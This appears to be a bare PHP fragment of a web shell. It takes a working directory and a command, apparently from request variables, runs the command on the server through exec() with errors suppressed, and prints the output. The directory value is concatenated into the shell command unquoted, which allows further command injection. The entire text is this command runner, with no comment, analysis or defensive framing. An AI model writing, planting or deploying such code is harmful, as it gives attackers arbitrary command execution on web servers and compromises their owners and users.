<?php
if (isset($wd)) { @chdir($wd); }
$lines = array();
@exec('cd ' . $wd . ' && ' . $c, $lines);
foreach ($lines as $l) { echo htmlspecialchars($l), "\n"; }
